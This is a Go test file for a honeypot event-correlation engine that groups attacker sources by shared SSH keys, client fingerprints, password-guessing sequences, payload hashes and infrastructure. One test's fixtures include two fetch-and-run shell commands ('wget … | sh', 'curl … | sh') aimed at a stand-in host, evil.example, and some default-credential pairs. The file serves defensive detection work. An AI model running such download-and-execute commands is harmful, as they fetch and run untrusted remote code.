package correlate

import (
	"fmt"
	"slices"
	"testing"
	"time"

	"github.com/decnet/decnet/internal/event"
	"github.com/decnet/decnet/internal/store"
)

var t0 = time.Date(2026, 12, 1, 10, 0, 0, 0, time.UTC)

// ev makes an event from src at t0+sec.
func ev(src string, sec int, typ, decky string, fields map[string]any) event.Event {
	t := t0.Add(time.Duration(sec) * time.Second)
	return event.Event{Schema: event.SchemaVersion, ID: event.DerivedID(t, fmt.Sprint(src, sec, typ, decky)), Time: t,
		Type: typ, Decky: decky, Service: "ssh", Src: &event.Endpoint{IP: src}, Fields: fields}
}

func keyLogin(src string, sec int, decky, fp string) event.Event {
	e := ev(src, sec, "ssh.login.failed", decky, nil)
	e.Credential = &event.Credential{Kind: "ssh_pubkey", Method: "publickey", Principal: "root", SecretSHA256: "k" + fp,
		Material: map[string]any{"fingerprint": fp, "key_type": "ssh-ed25519"}}
	return e
}

func pwLogin(src string, sec int, decky, user, pass string, ok bool) event.Event {
	typ := "ssh.login.failed"
	if ok {
		typ = "ssh.login.success"
	}
	e := ev(src, sec, typ, decky, nil)
	e.Credential = event.NewCredential("plaintext", "password", user, []byte(pass), true)
	return e
}

func run(e *Engine, evs ...event.Event) (*store.CorrelationBatch, []event.Event) {
	for i := range evs {
		e.Observe(&evs[i])
	}
	return e.Take()
}

func types(evs []event.Event) []string {
	var out []string
	for _, e := range evs {
		out = append(out, e.Type)
	}
	return out
}

func TestSharedKeyLinksSources(t *testing.T) {
	e := NewEngine()
	b, out := run(e, keyLogin("198.51.100.7", 1, "web", "SHA256:abc"), keyLogin("203.0.113.9", 5, "db", "SHA256:abc"),
		keyLogin("192.0.2.50", 9, "db", "SHA256:other"))
	if len(b.Links) != 1 || b.Links[0].A != "198.51.100.7" || b.Links[0].B != "203.0.113.9" || b.Links[0].Reasons[0].Kind != KindSSHKey {
		t.Fatalf("links %+v", b.Links)
	}
	if b.Links[0].Reasons[0].Detail != "ssh-ed25519" {
		t.Errorf("reason detail %q", b.Links[0].Reasons[0].Detail)
	}
	want := IdentityID("198.51.100.7") // the earlier source is the root
	if len(b.Members) != 2 || b.Members[0].Identity != want || b.Members[1].Identity != want {
		t.Fatalf("members %+v", b.Members)
	}
	if !slices.Equal(types(out), []string{IdentityLinkedType}) || out[0].Fields["identity"] != want || out[0].Src != nil {
		t.Fatalf("derived %+v", out)
	}
	// The same batch again derives nothing.
	b, out = run(e, keyLogin("203.0.113.9", 5, "db", "SHA256:abc"))
	if !b.Empty() || len(out) != 0 {
		t.Fatalf("again: %+v %v", b, out)
	}
}

func TestWeakFingerprintsNeedFour(t *testing.T) {
	e := NewEngine()
	fp := func(src string, sec int) []event.Event {
		return []event.Event{
			ev(src, sec, "ssh.client.kex", "web", map[string]any{"hassh": "ec7378c1a92f5a8dde7e8b7a1ddf33d1"}),
			ev(src, sec+1, "ssh.client.version", "web", map[string]any{"client_version": "SSH-2.0-OpenSSH_9.2p1 Debian-2"}),
			ev(src, sec+2, "http.tls.handshake", "web", map[string]any{"ja3_hash": "aa", "ja4": "t13d"}),
		}
	}
	b, _ := run(e, fp("198.51.100.7", 1)...)
	b2, _ := run(e, fp("203.0.113.9", 10)...)
	if len(b.Links)+len(b2.Links) != 1 {
		t.Fatalf("four weak indicators: links %+v %+v", b.Links, b2.Links)
	}
	if got := QueryKinds(b2.Links[0]); !slices.Equal(got, []string{KindHASSH, KindJA3, KindJA4, KindSSHClient}) {
		t.Fatalf("reasons %v", got)
	}
	// Three (a stock client) are not enough.
	e = NewEngine()
	three := func(src string, sec int) []event.Event { return fp(src, sec)[:2] }
	b, _ = run(e, append(three("198.51.100.7", 1), three("203.0.113.9", 10)...)...)
	if len(b.Links) != 0 {
		t.Fatalf("two weak indicators linked: %+v", b.Links)
	}
}

// QueryKinds is the kinds of a link's reasons.
func QueryKinds(l store.Link) []string {
	var out []string
	for _, r := range l.Reasons {
		out = append(out, r.Kind)
	}
	return out
}

func TestCredentialSequenceAndCommonValues(t *testing.T) {
	e := NewEngine()
	list := [][2]string{{"root", "123456"}, {"admin", "admin"}, {"root", "toor"}, {"pi", "raspberry"}, {"ubnt", "ubnt"}}
	var evs []event.Event
	for i, src := range []string{"198.51.100.7", "203.0.113.9"} {
		for j, c := range list {
			evs = append(evs, pwLogin(src, i*100+j, "web", c[0], c[1], false))
		}
	}
	// A third source with the same list in another order is not linked.
	for j := range list {
		c := list[len(list)-1-j]
		evs = append(evs, pwLogin("192.0.2.1", 300+j, "web", c[0], c[1], false))
	}
	b, _ := run(e, evs...)
	if len(b.Links) != 1 || b.Links[0].Reasons[0].Kind != KindCredentialSequence ||
		b.Links[0].Reasons[0].Detail != "users root, admin, root, pi, ubnt" {
		t.Fatalf("links %+v", b.Links)
	}
	// A value shown by more than MaxSharing sources links no more.
	e = NewEngine()
	for i := range MaxSharing + 3 {
		b, _ = run(e, keyLogin(fmt.Sprintf("10.9.%d.%d", i/250, i%250+1), i, "web", "SHA256:everyone"))
		if i > MaxSharing && (len(b.Links) != 0 || len(b.Indicators) != 0) {
			t.Fatalf("source %d of a common value: %+v", i, b)
		}
	}
}

func TestCampaignThroughPayloadAndInfrastructure(t *testing.T) {
	e := NewEngine()
	b, out := run(e,
		ev("198.51.100.7", 1, "ssh.command.input", "web", map[string]any{"command_line": "cd /tmp; wget http://evil.example:8080/x.sh -O- | sh"}),
		ev("203.0.113.9", 2, "telnet.command.input", "iot", map[string]any{"command": "curl -s HTTP://EVIL.example/y | sh"}),
		ev("192.0.2.1", 3, "ftp.file.upload", "ftp", map[string]any{"sha256": "deadbeef", "path": "/pub/x"}),
		ev("192.0.2.2", 4, "smb.file.upload", "fs", map[string]any{"sha256": "deadbeef", "path": `\x`}),
	)
	var camp []store.Link
	for _, l := range b.Links {
		if !l.Campaign {
			t.Fatalf("identity link from campaign indicators: %+v", l)
		}
		camp = append(camp, l)
	}
	if len(camp) != 2 || camp[0].Reasons[0].Kind != KindInfrastructure || camp[0].Reasons[0].Value != "evil.example" ||
		camp[1].Reasons[0].Kind != KindPayload {
		t.Fatalf("campaign links %+v", camp)
	}
	if !slices.Equal(types(out), []string{CampaignLinkedType, CampaignLinkedType}) {
		t.Fatalf("derived %v", types(out))
	}
	for _, m := range b.Members {
		if m.Identity != IdentityID(m.SrcIP) {
			t.Errorf("a campaign link changed an identity: %+v", m)
		}
	}
}

func TestReuseAndLateralMovement(t *testing.T) {
	e := NewEngine()
	e.DeckyAt = func(_, ip string) string {
		if ip == "10.20.0.5" {
			return "web"
		}
		return ""
	}
	_, out := run(e,
		pwLogin("198.51.100.7", 1, "web", "admin", "Winter2024!", true),
		pwLogin("198.51.100.7", 2, "db", "admin", "Winter2024!", false),
		pwLogin("198.51.100.7", 3, "db", "admin", "Winter2024!", false), // again: nothing new
		ev("10.20.0.5", 4, "mysql.connection.open", "db2", nil),
	)
	got := types(out)
	if !slices.Equal(got, []string{CredentialReusedType, LateralMovementType, LateralMovementType}) {
		t.Fatalf("derived %v", got)
	}
	if f := out[0].Fields; f["decky"] != "db" || len(f["deckies"].([]any)) != 2 || f["principal"] != "admin" {
		t.Fatalf("reuse %+v", f)
	}
	if f := out[1].Fields; f["from_decky"] != "web" || f["to_decky"] != "db" || f["via"] != "same_source" {
		t.Fatalf("movement %+v", f)
	}
	if f := out[2].Fields; f["from_decky"] != "web" || f["to_decky"] != "db2" || f["via"] != "decky_address" || f["origin"] != "198.51.100.7" {
		t.Fatalf("pivot %+v", f)
	}
}

// TestOrderAndRestartIndependence: the same events in another order, or
// with a restart from the stored state in the middle, give the same
// identities and campaigns, and derived events keep their ids.
func TestOrderAndRestartIndependence(t *testing.T) {
	var evs []event.Event
	for i, src := range []string{"198.51.100.7", "203.0.113.9", "192.0.2.1", "192.0.2.2", "192.0.2.3"} {
		fp := "SHA256:a"
		if i >= 3 {
			fp = "SHA256:b"
		}
		evs = append(evs, keyLogin(src, 10*i, "web", fp))
		if i == 2 || i == 3 {
			evs = append(evs, ev(src, 10*i+1, "ssh.file.upload", "web", map[string]any{"sha256": "cafe"}))
		}
	}
	members := func(ms map[string]store.Membership, b *store.CorrelationBatch) {
		for _, m := range b.Members {
			ms[m.SrcIP] = m
		}
	}
	want := map[string]store.Membership{}
	b, wantOut := run(NewEngine(), evs...)
	members(want, b)

	rev := slices.Clone(evs)
	slices.Reverse(rev)
	got := map[string]store.Membership{}
	b, _ = run(NewEngine(), rev...)
	members(got, b)
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Fatalf("reversed order:\n got %v\nwant %v", got, want)
	}

	// Restart after three events: the second engine loads the stored state.
	e := NewEngine()
	st := &store.CorrelationState{}
	b, out1 := run(e, evs[:3]...)
	st.Indicators, st.Links, st.Sequences = b.Indicators, b.Links, b.Sequences
	got = map[string]store.Membership{}
	members(got, b)
	b, out2 := run(Load(st), evs[3:]...)
	members(got, b)
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Fatalf("after a restart:\n got %v\nwant %v", got, want)
	}
	var ids, wantIDs []string
	for _, e := range append(out1, out2...) {
		ids = append(ids, e.ID)
	}
	for _, e := range wantOut {
		wantIDs = append(wantIDs, e.ID)
	}
	if !slices.Equal(ids, wantIDs) {
		t.Fatalf("derived ids %v, want %v", ids, wantIDs)
	}
	if c := want["192.0.2.3"].Campaign; c != want["198.51.100.7"].Campaign || want["192.0.2.3"].Identity == want["198.51.100.7"].Identity {
		t.Fatalf("want two identities in one campaign: %v", want)
	}
}

func TestGroupIDShapes(t *testing.T) {
	for id, want := range map[string]bool{IdentityID("198.51.100.7"): true, "I-0123456789ab": true, "I-0123456789AB": false,
		"I-0123456789a": false, "C-0123456789ab": false, "I-0123456789ag": false, "": false} {
		if IsIdentityID(id) != want {
			t.Errorf("IsIdentityID(%q) = %v", id, !want)
		}
	}
	if !IsCampaignID(CampaignID("x")) || IsCampaignID(IdentityID("x")) {
		t.Error("campaign ids")
	}
}
